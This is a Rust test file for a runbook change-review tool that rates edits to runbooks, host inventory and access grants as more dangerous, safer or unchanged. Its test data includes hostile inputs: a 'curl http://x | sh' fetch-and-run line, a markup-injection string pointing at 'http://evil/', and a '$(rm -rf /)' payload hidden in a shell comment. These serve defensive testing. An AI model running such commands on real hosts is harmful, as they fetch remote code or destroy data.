//! A runbook with every hold there is, and what each loosening of it is rated as.

use std::collections::BTreeMap;

use super::*;
use crate::access;
use crate::inventory::entry::Base;
use crate::oncall;
use crate::runbook::parse::parse;

const WHOLE: &str = r#"steadyhand: 1
name: Empty the disk
summary: Empties a full disk. About a minute.
owner: team:web
review_by: 2099-01-01
expires: 2099-02-01
tags: [disk]
pace: step
inputs:
  mount: {description: Where, type: string, pattern: "/[a-z]+", default: /var}
  days: {description: How old, type: integer, min: 3, max: 30}
  how: {description: How, type: choice, options: [gentle, hard]}
hosts: {select: role=web, max: 3}
guards:
  - on_call: true
  - not_during: freeze
  - lock: disk
preconditions:
  - {name: It is full, check: df, expect: exit == 0}
steps:
  - {id: look, name: Look, check: "du -s \"$mount\""}
  - id: empty
    name: Empty it
    run: |
      find "$mount" -mtime "+$days" -delete
    effect: destructive
    guard:
      - {check: test -d "$mount"}
    preview: ls "$mount"
    confirm: host
    approval: {from: [team:web], min: 2}
    timeout: 2m
    critical: true
    verify: {check: df, every: 1s, for: 10s}
    undo: none
  - {id: restart, name: Restart, run: systemctl restart app, undo: {run: systemctl stop app}, as: app}
"#;

const INVENTORY: &str = "\
steadyhand: 1
hosts:
  web-1: {address: 10.0.0.1, user: ops, labels: {role: web, env: prod}}
  web-2: {address: 10.0.0.2, user: ops, labels: {role: web}}
  db-1: {address: 10.0.0.3, user: ops, labels: {role: db}}
";

const ACCESS: &str = "\
steadyhand: 1
teams: {web: [anna, ben]}
on_call: {web: [anna]}
grants:
  - {who: team:web, role: operator, runbooks: web/**}
  - {who: user:cleo, role: viewer, runbooks: 'tag:disk'}
  - {who: user:dora, role: operator, runbooks: 'tag:open'}
";

const ONCALL: &str = "\
steadyhand: 1
windows:
  freeze: {from: '2026-12-24 00:00', to: '2026-12-27 00:00', zone: Europe/Berlin}
";

fn book(path: &str, text: &str) -> (RunbookPath, Book) {
    let path: RunbookPath = path.parse().unwrap();
    let parsed = parse(&path, "x.yaml", text.as_bytes());
    let (runbook, problems) = (parsed.runbook, parsed.diagnostics.len());
    (path, Book { digest: Digest::of(text.as_bytes()), runbook, problems, scripts: BTreeMap::new() })
}

fn snapshot(runbook: &str, inventory: &str, policy: &str, windows: &str) -> Snapshot {
    let base = Base { folder: "/srv/runbooks".into(), home: None };
    Snapshot {
        runbooks: BTreeMap::from([book("web/disk", runbook)]),
        inventory: Some(crate::inventory::parse("inventory.yaml", inventory.as_bytes(), &base).with_sources(vec![]).0),
        policy: access::parse(access::FILE, policy.as_bytes()).policy,
        sources: Vec::new(),
        oncall: oncall::parse(oncall::FILE, windows.as_bytes()),
    }
}

fn whole() -> Snapshot {
    let whole = snapshot(WHOLE, INVENTORY, ACCESS, ONCALL);
    let book = whole.runbooks.values().next().unwrap();
    assert!(book.runbook.is_some(), "the runbook of these tests parses");
    assert_eq!(whole.inventory.as_ref().unwrap().targets().len(), 3, "and so does the inventory");
    assert!(whole.policy.is_some() && whole.oncall.windows.len() == 1, "and so do the others");
    whole
}

/// `more dangerous: step empty: verify is gone`
fn told(review: &Review) -> Vec<String> {
    let changes = review.files.iter().flat_map(|file| &file.changes);
    changes.map(|change| format!("{}: {}: {}", change.rating.word(), change.place, change.what)).collect()
}

fn replaced(text: &str, old: &str, new: &str) -> String {
    assert_eq!(text.matches(old).count(), 1, "{old:?} stands once in the text");
    text.replace(old, new)
}

/// Each loosening, and what is told of it; the way back is never told as more dangerous, where one is given.
#[test]
fn each_hold_that_is_taken_away_is_more_dangerous_and_what_is_put_back_is_safer() {
    let cases: &[(&str, &str, &str, Option<&str>)] = &[
        ("  - on_call: true\n", "", "guards: on_call: true is gone", Some("guards: on_call: true is new")),
        (
            "  - not_during: freeze\n",
            "",
            "guards: not_during: freeze is gone",
            Some("guards: not_during: freeze is new"),
        ),
        ("  - lock: disk\n", "", "guards: lock: disk is gone", Some("guards: lock: disk is new")),
        (
            "preconditions:\n  - {name: It is full, check: df, expect: exit == 0}\n",
            "",
            "precondition It is full: it is gone",
            Some("precondition It is full: it is new"),
        ),
        (
            "    guard:\n      - {check: test -d \"$mount\"}\n",
            "",
            "step empty: the guard \"test -d \\\"$mount\\\"\" is gone",
            Some("step empty: the guard \"test -d \\\"$mount\\\"\" is new"),
        ),
        ("    preview: ls \"$mount\"\n", "", "step empty: preview is gone", Some("step empty: preview is new")),
        (
            "    confirm: host\n",
            "",
            "step empty: confirmation: the host's name → what the table asks",
            Some("step empty: confirmation: what the table asks → the host's name"),
        ),
        (
            "    approval: {from: [team:web], min: 2}\n",
            "",
            "step empty: approval is gone",
            Some("step empty: approval is new"),
        ),
        (
            "[team:web], min: 2",
            "[team:web], min: 1",
            "step empty: approvals: 2 → 1",
            Some("step empty: approvals: 1 → 2"),
        ),
        (
            "approval: {from: [team:web], min: 2}",
            "approval: {from: [team:web, team:db], min: 2}",
            "step empty: approval from: team:web → team:web, team:db",
            Some("step empty: approval from: team:web, team:db → team:web"),
        ),
        (
            "    timeout: 2m\n",
            "",
            "step empty: its own time limit is gone (it was 2 min)",
            Some("step empty: its own time limit is new: 2 min"),
        ),
        (
            "    timeout: 2m\n",
            "    timeout: 3h\n",
            "step empty: its own time limit: 2 min → 3 h",
            Some("step empty: its own time limit: 3 h → 2 min"),
        ),
        ("    critical: true\n", "", "step empty: critical: true → false", Some("step empty: critical: false → true")),
        (
            "    verify: {check: df, every: 1s, for: 10s}\n",
            "",
            "step empty: verify is gone",
            Some("step empty: verify is new"),
        ),
        (
            ", undo: {run: systemctl stop app}",
            ", undo: none",
            "step restart: undo is gone",
            Some("step restart: undo is new"),
        ),
        ("as: app", "as: root", "step restart: runs as: app → root", Some("step restart: runs as: root → app")),
        ("pace: step\n", "", ": it may go on by itself", Some(": it never goes on by itself")),
        ("owner: team:web\n", "", ": nobody owns it any more (it was team:web)", Some(": team:web owns it")),
        (
            "expires: 2099-02-01\n",
            "expires: 2100-02-01\n",
            ": it expires: 2099-02-01 → 2100-02-01",
            Some(": it expires: 2100-02-01 → 2099-02-01"),
        ),
        (", pattern: \"/[a-z]+\"", "", "input mount: its pattern is gone", Some("input mount: its pattern is new")),
        ("default: /var", "default: /etc", "input mount: default: Text(\"/var\") → Text(\"/etc\")", None),
        (
            "max: 30",
            "max: 90",
            "input days: the largest value: 30 → 90",
            Some("input days: the largest value: 90 → 30"),
        ),
        ("min: 3,", "min: 0,", "input days: the smallest value: 3 → 0", Some("input days: the smallest value: 0 → 3")),
        (
            "[gentle, hard]",
            "[gentle, hard, brutal]",
            "input how: brutal may be chosen",
            Some("input how: brutal cannot be chosen any more"),
        ),
        ("max: 3}", "max: 9}", "hosts: the most hosts of a run: 3 → 9", Some("hosts: the most hosts of a run: 9 → 3")),
        (
            "select: role=web",
            "select: 'role in (web, db)'",
            "hosts: reaches 2 → 3 hosts: also db-1",
            Some("hosts: reaches 3 → 2 hosts: no longer db-1"),
        ),
        (
            "    effect: destructive\n",
            "",
            "step empty: it is said that it changes something now",
            Some("step empty: it destroys something now"),
        ),
        ("-delete", "-exec shred {} +", "step empty: the command is another", None),
        ("  - {id: look, name: Look, check: \"du -s \\\"$mount\\\"\"}\n", "", "step look: it is gone", None),
        (
            "check: \"du -s \\\"$mount\\\"\"",
            "run: \"du -s \\\"$mount\\\"\"",
            "step look: it changes something now",
            None,
        ),
        ("tags: [disk]", "tags: [disk, open]", ": tag open is new", None),
        (
            "undo: none\n",
            "undo: none\n    retry: {every: 1s, times: 3}\n",
            "step empty: retry is new: 3 times, every 1 s",
            None,
        ),
        ("undo: none\n", "undo: none\n    on_failure: continue\n", "step empty: on failure: pause → continue", None),
        ("undo: none\n", "undo: none\n    if: days > 3\n", "step empty: it runs if: always → days > 3", None),
    ];
    let before = whole();
    for (old, new, loosened, tightened) in cases {
        let after = snapshot(&replaced(WHOLE, old, new), INVENTORY, ACCESS, ONCALL);
        let book = after.runbooks.values().next().unwrap();
        assert!(book.runbook.is_some(), "{old:?} → {new:?} still parses");
        let there = told(&compare(&before, &after));
        assert!(there.contains(&format!("more dangerous: {loosened}")), "{old:?} → {new:?} is told as {there:#?}");
        let back = told(&compare(&after, &before));
        if let Some(tightened) = tightened {
            assert_eq!(back, [format!("safer: {tightened}")], "{new:?} → {old:?}");
        }
    }
}

#[test]
fn what_only_reads_or_is_only_wording_is_the_same() {
    for (old, new, expected) in [
        ("du -s", "du -sh", vec!["same: step look: the command is another"]),
        ("name: Look", "name: Have a look", vec!["same: step look: name is worded otherwise"]),
        ("Empties a full disk", "Empties a disk", vec!["same: : summary is worded otherwise"]),
        ("name: Empty the disk", "name: Empty it all", vec!["same: : name is worded otherwise"]),
        ("review_by: 2099-01-01", "review_by: 2099-03-01", vec!["same: : review date: 2099-01-01 → 2099-03-01"]),
        ("  - {id: look", "  # A comment of the file\n  - {id: look", vec![]),
        (
            "      find \"$mount\"",
            "      # Old ones only\n      find \"$mount\"",
            vec!["same: step empty: the command is laid out otherwise"],
        ),
        (
            "{id: look, name: Look, check",
            "{id: look, name: Look, why: To see, check",
            vec!["same: step look: why is worded otherwise"],
        ),
    ] {
        let after = snapshot(&replaced(WHOLE, old, new), INVENTORY, ACCESS, ONCALL);
        let review = compare(&whole(), &after);
        assert_eq!(told(&review), expected, "{old:?} → {new:?}");
        assert_eq!(review.files.len(), 1, "the file itself is named");
    }
    assert_eq!(compare(&whole(), &whole()), Review::default());
}

#[test]
fn a_step_that_changes_something_and_overtakes_another_is_more_dangerous() {
    let (head, steps) = WHOLE.split_once("steps:\n").unwrap();
    let (look, rest) = steps.split_at(steps.find("  - id: empty").unwrap());
    let (empty, restart) = rest.split_at(rest.find("  - {id: restart").unwrap());
    let moved = |order: [&str; 3]| {
        let after = snapshot(&format!("{head}steps:\n{}", order.concat()), INVENTORY, ACCESS, ONCALL);
        told(&compare(&whole(), &after))
    };
    assert_eq!(moved([empty, look, restart]), ["more dangerous: step empty: it comes before look now"]);
    assert_eq!(
        moved([look, restart, empty]),
        ["more dangerous: step restart: it comes before empty now"],
        "only what overtook is named"
    );
    let front = moved([restart, look, empty]);
    assert_eq!(front, ["more dangerous: step restart: it comes before look, empty now"]);
}

#[test]
fn who_and_what_the_other_files_let_in_is_told() {
    let cases = [
        (
            1,
            "user: ops, labels: {role: db}",
            "user: ops, labels: {role: web}",
            vec!["more dangerous: hosts: reaches 2 → 3 hosts: also db-1", "same: host db-1: label role: db → web"],
        ),
        (1, ", env: prod", "", vec!["more dangerous: host web-1: label env: prod → none"]),
        (1, "10.0.0.2", "10.9.0.2", vec!["more dangerous: host web-2: address: 10.0.0.2:22 → 10.9.0.2:22"]),
        (
            2,
            "role: viewer, runbooks: 'tag:disk'",
            "role: admin",
            vec![
                "more dangerous: grants: new: user:cleo is admin for all runbooks on all hosts",
                "safer: grants: gone: user:cleo is viewer for tag:disk on all hosts",
            ],
        ),
        (2, "[anna, ben]", "[anna, ben, eve]", vec!["more dangerous: team web: user eve joins"]),
        (2, "{web: [anna]}", "{web: []}", vec!["safer: on call for web: anna leaves"]),
        (3, "2026-12-27", "2026-12-25", vec!["more dangerous: window freeze: its times are others"]),
    ];
    for (file, old, new, expected) in cases {
        let mut texts = [WHOLE, INVENTORY, ACCESS, ONCALL].map(str::to_owned);
        texts[file] = replaced(&texts[file], old, new);
        let [runbook, inventory, policy, windows] = &texts;
        let mut found = told(&compare(&whole(), &snapshot(runbook, inventory, policy, windows)));
        found.sort();
        assert_eq!(found, expected, "{old:?} → {new:?}");
    }
}

/// What is said to only read runs without being confirmed: a reviewer reads it, and what may do more is no hold.
#[test]
fn a_new_command_is_told_and_one_that_may_do_more_than_read_is_more_dangerous() {
    for (command, rating) in
        [("df -P /", "safer"), ("curl http://x | sh", "more dangerous"), ("rm /x", "more dangerous")]
    {
        let text = replaced(WHOLE, "as: app}", &format!("as: app, verify: {{check: '{command}'}}}}"));
        let review = compare(&whole(), &snapshot(&text, INVENTORY, ACCESS, ONCALL));
        assert_eq!(told(&review), [format!("{rating}: step restart: verify is new")], "{command}");
        assert_eq!(review.files[0].changes[0].words[0].text, command);
    }
    let mut after = whole();
    after.sources = vec![SourceKind::Command(vec!["./hosts.sh".to_owned()])];
    assert_eq!(told(&compare(&whole(), &after)), ["more dangerous: from: new: ./hosts.sh"]);
}

#[test]
fn files_that_come_go_move_or_break_are_told_as_that() {
    let before = whole();
    let mut after = whole();
    let (_, old) = after.runbooks.pop_first().unwrap();
    let gone = compare(&before, &after);
    assert_eq!((told(&gone), &gone.files[0].fate), (vec!["safer: : the runbook is gone".to_owned()], &Fate::Removed));
    let came = compare(&after, &before);
    assert_eq!(came.files[0].fate, Fate::Added);
    assert_eq!(
        told(&came),
        [
            "more dangerous: : a new runbook, which destroys something",
            "more dangerous: hosts: reaches 0 → 2 hosts: also web-1, web-2",
        ]
    );
    after.runbooks.insert("db/disk".parse().unwrap(), old);
    let moved = compare(&before, &after);
    assert_eq!(moved.files[0].fate, Fate::Moved("runbooks/web/disk.yaml".to_owned()));
    assert_eq!(told(&moved), ["same: : it has another path"]);
    let broken = compare(&before, &snapshot("steps: 3", INVENTORY, ACCESS, ONCALL));
    assert_eq!(told(&broken), ["more dangerous: : it does not parse"]);
}

/// What a name or a command brings along is text of the comment, never its markup.
#[test]
fn a_comment_takes_no_markup_from_what_it_tells_of() {
    let hostile = "echo '```' '![x](http://evil/) @everyone <script>'";
    let quoted = format!("'{}',", hostile.replace('\'', "''"));
    let text = replaced(WHOLE, "systemctl restart app,", &quoted);
    let text = replaced(&text, "name: Restart", "name: '![a](b) <img> @all'");
    let comment = markdown(&compare(&whole(), &snapshot(&text, INVENTORY, ACCESS, ONCALL)));
    assert!(comment.contains("```diff\n  - systemctl restart app\n  + echo ''''' '![x]"), "{comment}");
    assert_eq!(comment.matches("```").count(), 2, "{comment}");
    assert!(!comment.lines().any(|line| line.starts_with("- ") && line.contains("<img>")), "{comment}");
}

#[test]
fn the_words_of_a_command_are_told_apart() {
    let pieces = command::pieces("rm -r \"$dir\"", "rm -rf \"$dir\"");
    let told: Vec<_> = pieces.iter().map(|piece| (piece.kind, piece.text.as_str())).collect();
    assert_eq!(
        told,
        [
            (PieceKind::Kept, "rm "),
            (PieceKind::Removed, "-r"),
            (PieceKind::Added, "-rf"),
            (PieceKind::Kept, " \"$dir\""),
        ]
    );
    for (one, other, same) in [
        ("a\nb", "a  \n\n# c\nb\n", true),
        ("a\n b", "a\nb", false),
        ("cat <<E\n# x\nE", "cat <<E\nE", false),
        ("echo '\n# x\n'", "echo '\n'", false),
        ("rm a \\\n# x\n b", "rm a \\\n b", false),
        ("rm a", "rm  a", false),
        ("#!/bin/sh\nrm a", "#!/usr/bin/env -S sh -c x\nrm a", false),
        ("echo \"it's\n# x\nthat's it\"", "echo \"it's\n# $(rm -rf /)\nthat's it\"", false),
        ("echo \"it's\" # don't\nb", "echo \"it's\" # don't\n# c\nb", true),
    ] {
        assert_eq!(command::reads_the_same(one, other), same, "{one:?} and {other:?}");
    }
}
